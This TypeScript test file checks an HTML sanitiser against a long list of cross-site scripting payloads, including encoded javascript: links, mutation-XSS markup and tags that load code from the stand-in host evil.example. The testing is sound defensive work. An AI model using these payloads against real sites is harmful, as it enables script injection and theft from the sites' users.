import { sanitiseHtml } from './sanitise-html.ts';
import { ALLOWED } from './sanitise-html.ts';

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<scr<script>ipt>alert(1)</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x`><script>alert(1)</script>"` `>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example/x.css";</style><style><img src="</style><img src=x onerror=alert(1)//">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&amp;#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="javascript:alert(1)">',
  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<p id=cookie name=getElementById class=admin>x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><p>x</p>',
  '<p title="&quot; onclick=&quot;alert(1)">x</p>',
  '<p title=\'" onclick=alert(1) x="\'>x</p>',
  '<p title="a>b" lang=\'"><img src=x onerror=alert(1)>\'>x</p>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<x-custom onfocus=alert(1) tabindex=1 autofocus>x</x-custom>',
  '<constructor>x</constructor><__proto__>x</__proto__>',
  '</div></div><div>escaped its box',
  '<table><td><p></table><script>alert(1)</script>',
  '<a href="/x"><table><a href="javascript:alert(1)">x</a></table></a>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<p\u0000 onclick=alert(1)>x</p><img\u000Csrc=x\u000Conerror=alert(1)>',
  '<<img src=x onerror=alert(1)>>',
  '< img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert(1) a="<p>">',
];

const SAFE = new Set(['http:', 'https:', 'mailto:', 'tel:']);

/** Parses the sanitised HTML in a box with something after it. */
const parsed = (html: string): HTMLElement => {
  const page = document.createElement('main');
  page.innerHTML = `<div>${sanitiseHtml(html)}</div><footer>after</footer>`;
  return page;
};

test.each(payloads)('nothing runs, loads or escapes: %s', (payload) => {
  const page = parsed(payload);
  for (const element of page.querySelectorAll('div:first-child *')) {
    const tag = element.tagName.toLowerCase();
    // A parser may add a tbody of its own.
    expect(Object.keys(ALLOWED)).toContain(tag);
    for (const { name, value } of element.attributes) {
      expect([...(ALLOWED[tag] ?? []), 'loading', 'decoding']).toContain(name);
      const scheme = name === 'href' || name === 'src' ? new URL(value, 'https://shop.example/').protocol : 'https:';
      expect(SAFE).toContain(scheme);
    }
  }
  expect([...page.children].map((child) => child.tagName)).toEqual(['DIV', 'FOOTER']);
});

test.each(payloads)('a second pass changes nothing that a browser would see: %s', (payload) => {
  const once = parsed(payload);
  const again = document.createElement('main');
  again.innerHTML = `<div>${once.querySelector('div')?.innerHTML ?? ''}</div><footer>after</footer>`;
  expect(again.innerHTML).toBe(once.innerHTML);
});

test('content stays what it was', () => {
  const content =
    '<h2>Chêne massif</h2><p>Made in <strong>Québec</strong> &amp; sold <a href="/x.html?a=1&amp;b=2#c">here</a>.</p>' +
    '<ul><li>One</li><li>Two</li></ul><table><tr><td colspan="2">200 cm &lt; 3 m</td></tr></table>' +
    '<a href="mailto:hello@example.com">Write</a><br>';
  expect(sanitiseHtml(content)).toBe(content);
});

test('a picture of the content waits until it is near', () => {
  expect(sanitiseHtml('<img src="/media/x.jpg" alt="L&#39;été" width="40" height="1e9">')).toBe(
    '<img loading="lazy" decoding="async" src="/media/x.jpg" alt="L\'été" width="40">',
  );
});

test('what is left open is closed, and what closes nothing is dropped', () => {
  expect(sanitiseHtml('<div><p>one')).toBe('<div><p>one</p></div>');
  expect(sanitiseHtml('one</div></p>')).toBe('one');
  expect(sanitiseHtml('<b><i>x</b>y</i>')).toBe('<b><i>x</i></b>y');
});

test('what is not for reading leaves nothing', () => {
  expect(sanitiseHtml('<p>a</p><style>p{}</style><SCRIPT>x()</SCRIPT ><svg><title>t</title></svg><img alt="x">')).toBe(
    '<p>a</p>',
  );
});

test('an unknown tag leaves its text', () => {
  expect(sanitiseHtml('<center>Hello <font color=red>you</font></center>')).toBe('Hello you');
});
